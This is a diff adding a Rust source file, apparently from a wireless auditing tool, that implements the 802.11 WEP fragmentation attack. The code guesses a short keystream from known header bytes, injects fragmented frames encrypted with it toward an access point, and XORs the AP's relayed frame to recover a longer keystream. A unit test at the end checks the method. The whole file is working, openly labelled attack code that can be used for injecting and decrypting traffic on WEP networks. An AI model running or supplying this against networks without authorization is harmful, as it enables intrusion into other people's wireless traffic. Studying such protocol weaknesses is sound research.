@@ -0,0 +1,278 @@
+//The fragmentation attack, which grows a short known keystream by making the AP reassemble and relay fragmented frames
+
+use std::{
+    sync::atomic::{AtomicBool, Ordering},
+    time::{Duration, Instant},
+};
+
+use anyhow::Context;
+use ieee80211::{DSStatus, DataFrame, DataFrameTrait, Frame, FrameLayer, FrameTrait, MacAddress};
+
+use crate::{
+    crc32::crc32,
+    ieee80211::IEEE80211PacketSniffer,
+    plaintext::{self, ARP_PACKET_SIZE, ETHERTYPE_ARP, ETHERTYPE_IPV4, LLC_SNAP_HEADER_SIZE},
+    wep::{WepFrame, WepKeystream},
+};
+
+//Splits the payload into fragments which are all encrypted using the same (short) keystream
+pub fn fragment_payload(keystream: &WepKeystream, key_idx: u8, payload: &[u8]) -> Vec<WepFrame> {
+    payload
+        .chunks(keystream.max_plaintext_len())
+        .map(|chunk| WepFrame::encrypt_with_keystream(keystream, key_idx, chunk).unwrap())
+        .collect()
+}
+
+//Recovers the keystream of the reassembled frame relayed by the AP, including the one of its ICV
+pub fn relayed_keystream(relayed: &WepFrame, payload: &[u8]) -> WepKeystream {
+    let mut plaintext = payload.to_vec();
+    plaintext.extend_from_slice(&crc32(payload).to_le_bytes());
+
+    WepKeystream {
+        iv: relayed.iv,
+        keystream: relayed
+            .body
+            .iter()
+            .zip(plaintext)
+            .map(|(c, p)| c ^ p)
+            .collect(),
+    }
+}
+
+pub struct FragmentationAttack<'a> {
+    sniffer: &'a mut IEEE80211PacketSniffer,
+    ap_mac: MacAddress,
+    src_mac: MacAddress,
+}
+
+impl<'a> FragmentationAttack<'a> {
+    //802.11 frames can be split into at most 16 fragments
+    const MAX_FRAGMENTS: usize = 16;
+
+    //How often the fragments are injected before giving up on a round
+    const MAX_ROUNDS: usize = 8;
+    const RESPONSE_TIMEOUT: Duration = Duration::from_millis(500);
+
+    pub const DEFAULT_KEYSTREAM_LEN: usize = 1500;
+
+    pub fn new(
+        sniffer: &'a mut IEEE80211PacketSniffer,
+        ap_mac: MacAddress,
+        src_mac: MacAddress,
+    ) -> FragmentationAttack<'a> {
+        FragmentationAttack {
+            sniffer,
+            ap_mac,
+            src_mac,
+        }
+    }
+
+    pub fn run(
+        &mut self,
+        frame: &WepFrame,
+        target_len: usize,
+        mut progress_cb: impl FnMut(usize),
+        should_exit: &AtomicBool,
+    ) -> anyhow::Result<Option<WepKeystream>> {
+        if frame.encrypted_payload().len() < LLC_SNAP_HEADER_SIZE {
+            return Ok(None);
+        }
+
+        //Every frame starts with the LLC/SNAP header, which gives us the first 8 keystream bytes
+        //Only the EtherType has to be guessed, which we can do based on the frame's length
+        let ethertypes =
+            if frame.encrypted_payload().len() == LLC_SNAP_HEADER_SIZE + ARP_PACKET_SIZE {
+                [ETHERTYPE_ARP, ETHERTYPE_IPV4]
+            } else {
+                [ETHERTYPE_IPV4, ETHERTYPE_ARP]
+            };
+
+        let mut keystream = None;
+        for ethertype in ethertypes {
+            let initial_keystream = WepKeystream {
+                iv: frame.iv,
+                keystream: frame.body[..LLC_SNAP_HEADER_SIZE]
+                    .iter()
+                    .zip(plaintext::llc_snap_header(ethertype))
+                    .map(|(c, p)| c ^ p)
+                    .collect(),
+            };
+
+            progress_cb(initial_keystream.keystream.len());
+            keystream =
+                self.extend_keystream(&initial_keystream, frame.key_idx, target_len, should_exit)?;
+            if keystream.is_some() {
+                break;
+            }
+        }
+
+        //Keep growing the keystream until it's long enough
+        //If a later round fails, the keystream recovered so far is still useful, so return that instead
+        let Some(mut cur_keystream) = keystream else {
+            return Ok(None);
+        };
+        loop {
+            progress_cb(cur_keystream.keystream.len());
+
+            if cur_keystream.max_plaintext_len() >= target_len {
+                return Ok(Some(cur_keystream));
+            }
+
+            match self.extend_keystream(&cur_keystream, frame.key_idx, target_len, should_exit)? {
+                Some(keystream) => cur_keystream = keystream,
+                None => return Ok(Some(cur_keystream)),
+            }
+        }
+    }
+
+    fn extend_keystream(
+        &mut self,
+        keystream: &WepKeystream,
+        key_idx: u8,
+        target_len: usize,
+        should_exit: &AtomicBool,
+    ) -> anyhow::Result<Option<WepKeystream>> {
+        //Split a frame with a known payload into as many fragments as possible
+        //Each fragment is encrypted using the same keystream, but the AP relays the reassembled frame using a new IV
+        let frag_len = keystream.max_plaintext_len();
+        let payload_len = (frag_len * Self::MAX_FRAGMENTS)
+            .min(target_len)
+            .max(LLC_SNAP_HEADER_SIZE);
+
+        let mut payload = plaintext::llc_snap_header(ETHERTYPE_ARP).to_vec();
+        payload.resize(payload_len, 0);
+
+        let fragments = fragment_payload(keystream, key_idx, &payload);
+
+        for _ in 0..Self::MAX_ROUNDS {
+            if should_exit.load(Ordering::SeqCst) {
+                return Ok(None);
+            }
+
+            //Inject all fragments using a new sequence number
+            let seq_num = rand::random::<u16>() & 0xfff;
+            for (frag_num, fragment) in fragments.iter().enumerate() {
+                let fragment = self.build_fragment(
+                    fragment,
+                    seq_num,
+                    frag_num,
+                    frag_num + 1 == fragments.len(),
+                );
+
+                self.sniffer
+                    .inject_frame(&Frame::new(fragment))
+                    .context("failed to inject fragment")?;
+            }
+
+            //Wait for the AP to relay the reassembled frame, whose plaintext we know
+            if let Some(relayed) = self.wait_for_relay(payload_len + WepFrame::ICV_SIZE)? {
+                return Ok(Some(relayed_keystream(&relayed, &payload)));
+            }
+        }
+
+        Ok(None)
+    }
+
+    fn build_fragment(
+        &self,
+        fragment: &WepFrame,
+        seq_num: u16,
+        frag_num: usize,
+        is_last: bool,
+    ) -> Vec<u8> {
+        let mut frame = fragment
+            .build_data_frame(
+                DSStatus::FromSTAToDS,
+                &self.ap_mac,
+                &self.src_mac,
+                &MacAddress::new([0xff; 6]),
+            )
+            .unwrap();
+
+        //Set the More Fragments flag, and the sequence control field
+        if !is_last {
+            frame[1] |= 0x04;
+        }
+
+        let seq_ctrl = (seq_num << 4) | frag_num as u16;
+        frame[DataFrame::FRAGMENT_SEQUENCE_START..DataFrame::FRAGMENT_SEQUENCE_START + 2]
+            .copy_from_slice(&seq_ctrl.to_le_bytes());
+
+        frame
+    }
+
+    fn wait_for_relay(&mut self, body_len: usize) -> anyhow::Result<Option<WepFrame>> {
+        self.sniffer
+            .set_timeout(Some(Self::RESPONSE_TIMEOUT))
+            .context("failed to set sniffer timeout")?;
+
+        let start_time = Instant::now();
+        while start_time.elapsed() < Self::RESPONSE_TIMEOUT {
+            let Some(packet) = self
+                .sniffer
+                .sniff_packet()
+                .context("failed to sniff relayed fragmented frame")?
+            else {
+                break;
+            };
+            let frame = packet.ieee80211_frame();
+
+            //Check if this is our frame being relayed by the AP
+            let Some(FrameLayer::Data(data)) = frame.next_layer() else {
+                continue;
+            };
+            if !data.protected()
+                || !matches!(data.ds_status(), DSStatus::FromDSToSTA)
+                || data.transmitter_address() != Some(self.ap_mac)
+                || data.source_address() != Some(self.src_mac)
+                || !data
+                    .destination_address()
+                    .map_or(false, |dst| dst.is_broadcast())
+            {
+                continue;
+            }
+
+            if let Some(relayed) = WepFrame::from_data_frame(&data, true) {
+                if relayed.body.len() == body_len {
+                    return Ok(Some(relayed));
+                }
+            }
+        }
+
+        Ok(None)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wep::WepKey;
+
+    #[test]
+    fn test_fragmentation_keystream() {
+        let key: WepKey = "0102030405".parse().unwrap();
+        let keystream = WepKeystream::from_key(&key, &[1, 2, 3], LLC_SNAP_HEADER_SIZE);
+
+        let mut payload = plaintext::llc_snap_header(ETHERTYPE_ARP).to_vec();
+        payload.resize(64, 0);
+
+        //Every fragment has to be a valid frame, which reassembles to the original payload
+        let fragments = fragment_payload(&keystream, 0, &payload);
+        assert_eq!(fragments.len(), 16);
+
+        let reassembled = fragments
+            .iter()
+            .flat_map(|frag| frag.decrypt(&key).unwrap())
+            .collect::<Vec<_>>();
+        assert_eq!(reassembled, payload);
+
+        //The keystream of the relayed frame has to cover its whole body
+        let relayed = WepFrame::encrypt(&key, &[4, 5, 6], 0, &reassembled);
+        let recovered = relayed_keystream(&relayed, &payload);
+        assert_eq!(
+            recovered,
+            WepKeystream::from_key(&key, &[4, 5, 6], payload.len() + WepFrame::ICV_SIZE)
+        );
+        assert_eq!(recovered.max_plaintext_len(), payload.len());
+    }
+}